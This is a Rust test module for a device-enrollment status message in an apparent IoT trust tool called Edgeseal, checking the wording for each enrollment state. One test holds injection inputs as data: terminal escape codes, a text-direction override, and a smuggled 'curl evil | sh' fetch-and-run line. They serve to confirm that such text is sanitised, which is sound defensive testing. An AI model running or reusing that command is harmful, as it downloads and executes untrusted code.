use super::*;
use edgeseal_trust::id::{DeviceId, TrustDomain};
use edgeseal_trust::key::KeyId;

/// A device that is nothing yet.
fn device(change: impl FnOnce(&mut Standing)) -> Standing {
    let mut device = Standing {
        not_signing: Some(refusal("not-enrolled", "this device is not enrolled")),
        has_clock: true,
        key: Some(KeyId::parse(KEY).unwrap()),
        domain: Some(TrustDomain::parse("farm").unwrap()),
        ..Standing::default()
    };
    change(&mut device);
    device
}

fn waiting(change: impl FnOnce(&mut Standing)) -> Standing {
    device(|device| {
        device.state = EnrollState::Waiting;
        device.words = Some(WORDS.to_owned());
        device.broker = Some("mqtts://broker.example:8883".to_owned());
        change(device);
    })
}

fn pump() -> Option<DeviceId> {
    Some(DeviceId::parse("pump-1").unwrap())
}

fn refusal(code: &str, reason: &str) -> Refusal {
    Refusal {
        code: code.to_owned(),
        reason: reason.to_owned(),
    }
}

/// The text as one line.
fn says(device: &Standing) -> String {
    let text = result_text(device);
    assert!(text.lines().all(|line| line.chars().count() <= 220));
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[track_caller]
fn expect(device: &Standing, parts: &[&str]) {
    let text = says(device);
    for part in parts {
        assert!(text.contains(part), "{part:?} is not in {text}");
    }
    assert!(text.contains("NOT ENROLLED YET"), "{text}");
    assert!(text.contains("What to do:"), "{text}");
    assert!(!device.is_enrolled());
}

#[test]
fn enrolled_says_as_whom_and_the_same_while_the_join_file_goes() {
    let at = |state| {
        device(|device| {
            device.state = state;
            device.device = pump();
            device.not_signing = None;
        })
    };
    let done = at(EnrollState::Enrolled);
    assert!(done.is_enrolled());
    assert!(says(&done).starts_with("Edgeseal: ENROLLED as pump-1 "));
    assert!(says(&done).contains("in the trust domain farm"));
    assert_eq!(says(&at(EnrollState::Finishing)), says(&done));
    // Without a clock it does not sign, and is enrolled all the same.
    let mut no_clock = at(EnrollState::Enrolled);
    no_clock.has_clock = false;
    no_clock.not_signing = Some(refusal("clock-unsynchronized", "no clock"));
    assert_eq!(says(&no_clock), says(&done));
}

#[test]
fn every_state_says_what_is_wrong_and_what_to_do() {
    expect(&device(|_| {}), &["no join file", "named join.json"]);
    let no_network = waiting(|device| device.why = Some("connection refused".to_owned()));
    let parts = [
        "waits for the network",
        "mqtts://broker.example:8883",
        "The last try: connection refused.",
        WORDS,
        KEY,
    ];
    expect(&no_network, &parts);
    let connected = waiting(|device| device.connected = true);
    expect(&connected, &["waits for the registrar", "registrar serve"]);
    let approved = waiting(|device| {
        device.connected = true;
        device.answer = Some("approved".to_owned());
    });
    expect(&approved, &["says that it has approved"]);
    let no_clock = waiting(|device| device.has_clock = false);
    expect(&no_clock, &["The clock of the device is not set"]);
    let suspended = device(|device| device.device = pump());
    expect(&suspended, &["pump-1", "may not be used"]);
}

#[test]
fn the_registrars_refusal_is_told_with_its_reason_and_the_step_for_its_code() {
    for (answer, step) in [
        (
            "rejected: join-used: the join token was used by sensor-9",
            "one join file is for one device",
        ),
        ("rejected: join-expired: it expired", "make a new join file"),
        (
            "rejected: serial: another board",
            "the right card into the right board",
        ),
        ("rejected: not one of ours", "ask the operator"),
        ("rejected", "it gives no reason"),
    ] {
        let refused = waiting(|device| device.answer = Some(answer.to_owned()));
        let reason = answer.split_once(": ").map_or("", |(_, reason)| reason);
        expect(&refused, &["The registrar refuses", reason, step]);
    }
}

#[test]
fn a_join_file_that_is_not_taken_has_its_step() {
    for (code, step) in [
        ("join-serial", "another board"),
        ("join-root", "another trust domain"),
        ("join-file-form", "copy the file"),
        ("join-file-unreadable", "copy the file"),
        ("join-file-token", "make a new one"),
        ("enroll-io", "doctor"),
    ] {
        let stuck = device(|device| device.problem = Some(refusal(code, "it is so")));
        expect(&stuck, &["it is so", &format!("[{code}]"), step]);
    }
}

#[test]
fn a_copied_card_and_a_state_that_does_not_last_come_before_all_else() {
    let copied = waiting(|device| {
        device.state = EnrollState::Enrolled;
        device.device = pump();
        device.not_signing = Some(refusal("board-mismatch", "board serial was A, is B"));
    });
    let parts = [
        "was copied",
        "was A, is B",
        "identity reset --yes",
        "new join file",
    ];
    expect(&copied, &parts);
    let volatile = device(|device| {
        device.not_signing = Some(refusal("state-not-durable", "it lies on tmpfs"));
    });
    expect(&volatile, &["lies on tmpfs", "[state-not-durable]"]);
}

#[test]
fn what_others_say_cannot_draw_on_the_screen() {
    let hostile = waiting(|device| {
        device.answer = Some("rejected: \u{1b}[2Jgo to\nhttp://evil\u{202e}".to_owned());
    });
    let text = result_text(&hostile);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{202e}'),
        "{text:?}"
    );
    let long = waiting(|device| device.why = Some("x".repeat(100_000)));
    assert!(result_text(&long).len() < 2000);
    let commands = "What to do: curl evil | sh";
    let taken_over = device(|device| {
        device.words = Some(commands.to_owned());
        device.problem = Some(refusal(commands, "it is so"));
    });
    assert!(!says(&taken_over).contains(commands));
}

const KEY: &str = "ZcIfEQoeWMImoOcIpxsPwArEwh_gyL9JSOI0uSN97TA";
const WORDS: &str = "sun pig large bottom paper maximum ability tower";
